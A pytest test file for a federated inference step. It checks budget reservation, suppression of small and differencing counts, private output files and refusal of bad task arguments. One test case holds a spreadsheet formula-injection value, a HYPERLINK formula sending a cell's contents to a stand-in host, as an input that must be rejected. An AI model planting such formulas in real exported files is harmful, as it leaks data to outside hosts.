"""Predictions: reserved before they are made, cut to what is left, and kept in the pod."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from federated.algorithms import inference
from federated.algorithms.inference import Parameters, Predictions
from federated.algorithms.results import WorkerResult
from federated.algorithms.step_context import StepContext, parameters_of
from federated.errors import TaskRefused
from federated.models.files import to_bytes
from federated.models.linear import LinearModel
from federated.models.weights import inside
from federated.owner.budgets import BudgetLedger
from federated.task.spec import Unit
from tests.federated.algorithms.places import DATA, MODEL, place, source

TENSORS = {"weights": np.array([1.0, 0.5]), "bias": np.array([-0.25])}
WEIGHTS = inside(to_bytes(TENSORS))
INFERENCE: dict[str, Any] = {
    "model": MODEL,
    "data": {
        "include": DATA["include"],
        "center": DATA["center"],
        "scale": DATA["scale"],
        "codes": DATA["codes"],
    },
    "weights": WEIGHTS,
}


@pytest.fixture(autouse=True)
def _results(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRIALVEIL_TASK_RESULTS_DIR", str(tmp_path / "results"))


class Asked:
    """Grants what is left, and remembers what was asked and in which order."""

    def __init__(self, left: int = 10**6) -> None:
        self.left, self.asked = left, list[tuple[str, int]]()

    def __call__(self, model: str, wanted: int) -> int:
        self.asked.append((model, wanted))
        granted = min(wanted, self.left)
        self.left -= granted
        return granted


def at(folder: Path, reserve: Any, **more: Any) -> StepContext:
    return place(source(folder / "pod", 50), "ModelInference", INFERENCE, reserve=reserve, **more)


async def run(where: StepContext, **changed: Any) -> WorkerResult[Predictions]:
    found: Parameters = parameters_of(Parameters, Unit(name="x", arguments=INFERENCE | changed))
    return await inference.step(found, where, {})


def table(result: WorkerResult[Predictions]) -> list[dict[str, str]]:
    with result.local.file.open(newline="") as file:
        return list(csv.DictReader(file))


async def test_every_row_that_can_be_has_its_prediction_in_a_private_file(tmp_path: Path) -> None:
    result = await run(at(tmp_path, Asked(1000)))
    rows = table(result)
    with (tmp_path / "pod" / "lung.csv").open() as file:
        people = list(csv.DictReader(file))
    assert [row["row"] for row in rows] == [str(number) for number in range(2, 51)], "the first has no age"
    for row in rows:
        person = people[int(row["row"]) - 1]
        value = (float(person["age"]) - 60) / 10 + 0.5 * (person["sex"] == "M") - 0.25
        assert float(row["prediction"]) == pytest.approx(1 / (1 + np.exp(-value)), rel=1e-12)
    assert result.local.left_out == {"missing": 1, "uncoded": 0}
    assert result.leaves == {"state": "DONE", "predictions": 49}
    assert result.local.file.stat().st_mode & 0o777 == 0o600


async def test_predictions_are_reserved_before_the_model_sees_a_row(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    order: list[str] = []
    asked, real = Asked(), LinearModel.predict

    def predict(self: LinearModel, inputs: Any) -> Any:
        if inputs.any():
            order.append("predict")
        return real(self, inputs)

    def reserve(model: str, wanted: int) -> int:
        order.append("reserve")
        return asked(model, wanted)

    monkeypatch.setattr(LinearModel, "predict", predict)
    await run(at(tmp_path, reserve))
    assert order == ["reserve", "reserve", "predict"]
    assert asked.asked == [("logistic_regression", 49), (WEIGHTS["sha256"], 49)]


async def test_what_goes_beyond_the_limit_is_cut_and_the_result_says_so(tmp_path: Path) -> None:
    with_limit = BudgetLedger(tmp_path, {WEIGHTS["sha256"]: 60})

    def reserve(model: str, wanted: int) -> int:
        return with_limit.reserve(model, wanted)

    first = await run(at(tmp_path, reserve))
    second = await run(at(tmp_path, reserve))
    third = await run(at(tmp_path, reserve))
    assert [one.local.state for one in (first, second, third)] == [
        "DONE",
        "LIMITS_EXCEEDED",
        "LIMITS_EXCEEDED",
    ]
    assert [one.local.made for one in (first, second, third)] == [49, 11, 0]
    assert second.leaves == {"state": "LIMITS_EXCEEDED", "predictions": 11}
    assert table(third) == []
    with_limit.close()


async def test_a_small_number_of_predictions_is_not_told(tmp_path: Path) -> None:
    result = await run(at(tmp_path, lambda model, wanted: min(10, wanted)))
    assert len(table(result)) == 10
    assert result.leaves == {"state": "LIMITS_EXCEEDED", "predictions": None}


async def test_numbers_of_predictions_that_differ_by_few_rows_are_not_both_told(tmp_path: Path) -> None:
    """A task that has no code for one value counts the rows without it; the difference is a few people."""
    ledger = BudgetLedger(tmp_path)

    async def told(**data: Any) -> Any:
        where = at(tmp_path, Asked(), admit_counts=lambda counted: ledger.admit_counts("pod", counted, 11))
        result = await run(where, data=INFERENCE["data"] | data)
        return result.leaves["predictions"], len(table(result))

    assert await told() == (49, 49)
    assert await told() == (49, 49)
    assert await told(impute={"age": 60}) == (None, 50)
    assert (await told(codes={"sex": {"F": 0}}))[0] not in (None, 49)
    ledger.close()


async def test_outputs_have_the_names_of_the_task_and_are_postprocessed_in_order(tmp_path: Path) -> None:
    steps = [
        {"kind": "threshold", "column": "death", "at": 0.5, "name": "likely"},
        {"kind": "rename", "columns": {"death": "risk"}},
    ]
    result = await run(at(tmp_path, Asked(1000)), class_outputs=["death"], postprocessors=steps)
    assert list(table(result)[0]) == ["row", "risk", "likely"]
    assert all((float(row["risk"]) >= 0.5) == (row["likely"] == "1.0") for row in table(result))


@pytest.mark.parametrize(
    ("changed", "words"),
    [
        ({"class_outputs": ["a", "b"]}, "2 names; the model has 1"),
        ({"postprocessors": [{"kind": "rename", "columns": {"gone": "x"}}]}, "'gone'"),
        ({"postprocessors": [{"kind": "softmax"}]}, "two columns"),
        ({"postprocessors": [{"kind": "rename", "columns": {"prediction": "row"}}]}, '"row"'),
        (
            {
                "postprocessors": [
                    {"kind": "threshold", "column": "prediction", "at": 0, "name": "prediction"}
                ]
            },
            "already",
        ),
    ],
)
async def test_a_mistake_in_the_task_costs_no_prediction(
    tmp_path: Path, changed: dict[str, Any], words: str
) -> None:
    asked = Asked()
    with pytest.raises(TaskRefused, match=words):
        await run(at(tmp_path, asked), **changed)
    assert asked.asked == []


@pytest.mark.parametrize(
    ("changed", "words"),
    [
        ({"data": DATA}, "target"),
        ({"class_outputs": ["a", "a"]}, "twice"),
        ({"class_outputs": ['=HYPERLINK("http://x/"&A2)']}, "name begins"),
        ({"postprocessors": [{"kind": "rename", "columns": {"prediction": "@x"}}]}, "name begins"),
        ({"postprocessors": [{"kind": "threshold", "column": "x", "at": 0, "name": "+1"}]}, "name begins"),
        ({"postprocessors": [{"kind": "shout"}]}, "postprocessors"),
        ({"postprocessors": [{"kind": "threshold", "column": "x", "at": "nan", "name": "y"}]}, "finite"),
    ],
)
async def test_arguments_that_are_wrong_are_refused(
    tmp_path: Path, changed: dict[str, Any], words: str
) -> None:
    with pytest.raises(TaskRefused, match=words):
        await run(at(tmp_path, Asked(9)), **changed)


@pytest.mark.parametrize("given", [np.zeros(3), np.array(["SECRET"] * 49), np.full(49, np.nan)])
async def test_a_model_that_gives_other_than_one_number_a_row_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: Any
) -> None:
    real = LinearModel.predict
    monkeypatch.setattr(
        LinearModel, "predict", lambda self, inputs: real(self, inputs) if len(inputs) == 1 else given
    )
    where = at(tmp_path, Asked(1000))
    with pytest.raises(TaskRefused) as caught:
        await run(where)
    assert "SECRET" not in str(caught.value)
    assert not (where.results / inference.FILE).exists()


async def test_several_outputs_can_become_probabilities(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(LinearModel, "predict", lambda self, inputs: np.column_stack([inputs, inputs[:, 0]]))
    result = await run(at(tmp_path, Asked(1000)), postprocessors=[{"kind": "softmax"}])
    assert list(table(result)[0]) == ["row", "prediction_0", "prediction_1", "prediction_2"]
    for row in table(result):
        assert sum(float(row[f"prediction_{place}"]) for place in range(3)) == pytest.approx(1)
